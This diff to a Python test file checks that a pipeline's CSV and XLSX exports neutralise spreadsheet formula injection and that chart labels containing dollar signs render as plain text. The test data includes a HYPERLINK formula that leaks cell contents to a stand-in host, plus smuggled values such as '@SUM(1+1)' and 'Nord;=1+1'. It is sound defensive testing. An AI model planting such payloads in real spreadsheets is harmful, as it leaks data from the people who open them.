@@ -561,13 +561,19 @@ def test_a_label_from_a_source_cannot_run_as_a_formula_in_the_komhen_files(tmp_p
     from pipeline.reports.komhen import KomhenCell, KomhenWeek
 
     evil = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
+    control = KomhenCell(task="85.02.00", task_label="Flytning\x01\x1b", department="Nord;=1+1", channel="email",
+                         direction="inbound", inquiries=1, abandoned=0, resolution_known=0, resolved=0,
+                         resolution_pending=0, web_first_known=0, web_first=0, requesters={"citizen": 1})
     cell = KomhenCell(task="05.13.00", task_label=evil, department="@SUM(1+1)", channel="phone", direction="inbound",
                       inquiries=3, abandoned=0, resolution_known=0, resolved=0, resolution_pending=0,
                       web_first_known=0, web_first=0, requesters={"citizen": 3})
-    csv_file, xlsx_file = write_komhen(KomhenWeek(WEEK, "751", [cell], []), tmp_path)
+    csv_file, xlsx_file = write_komhen(KomhenWeek(WEEK, "751", [cell, control], []), tmp_path)
     with open(csv_file, encoding="utf-8-sig", newline="") as fh:
-        (row,) = list(csv.DictReader(fh))
+        row, other = list(csv.DictReader(fh))
     assert (row["Opgave"], row["Afdeling"]) == ("'" + evil, "'@SUM(1+1)")
+    assert other["Opgave"] == "Flytning"  # control characters, which no sheet may hold, are dropped
+    with open(csv_file, encoding="utf-8-sig", newline="") as fh:  # Danish Excel splits on ';' outside quotes
+        assert not [field for line in csv.reader(fh, delimiter=";") for field in line if field.startswith("=")]
     book = load_workbook(xlsx_file)
     cells = [c for sheet in book for line in sheet.iter_rows() for c in line if isinstance(c.value, str)]
     assert [c.coordinate for c in cells if c.data_type == "f"] == []
@@ -595,3 +601,11 @@ def test_a_week_compared_with_its_own_komhen_export_has_no_shift_and_no_gain(
     abandoned = sum(c.abandoned for c in read_komhen_week(store.query, DB, WEEK).cells
                     if c.channel == "phone" and c.direction == "inbound")
     assert abandoned > 0 and phone["inquiries"] == phone["baseline_inquiries"]  # not vacuous: calls were abandoned
+
+
+def test_a_label_with_dollar_signs_is_drawn_as_text(tmp_path: Path) -> None:
+    """matplotlib reads '$...$' as maths: a task label '$\\foo{$' from the mapping stopped the report."""
+    from pipeline.reports import charts
+
+    path = charts.self_service_rate([("05.13.00 $\\foo{$ Pas", 0.25, 40)], 0.2, tmp_path / "rate.png", "$x$")
+    assert path.read_bytes().startswith(b"\x89PNG")
